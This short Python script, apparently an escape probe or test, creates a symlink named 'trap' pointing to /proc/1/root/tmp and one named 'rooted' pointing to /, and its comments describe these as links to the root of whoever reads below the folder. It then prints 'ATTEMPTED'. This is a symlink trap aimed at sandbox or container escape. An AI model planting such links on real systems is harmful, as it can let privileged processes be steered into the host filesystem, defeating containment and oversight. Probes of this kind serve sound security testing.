# Tries: a folder that is a link to the root of whoever reads below it.
# Success: a reader or writer follows it.
import os

os.symlink("/proc/1/root/tmp", "trap")
os.symlink("/", "rooted")
print("ATTEMPTED")
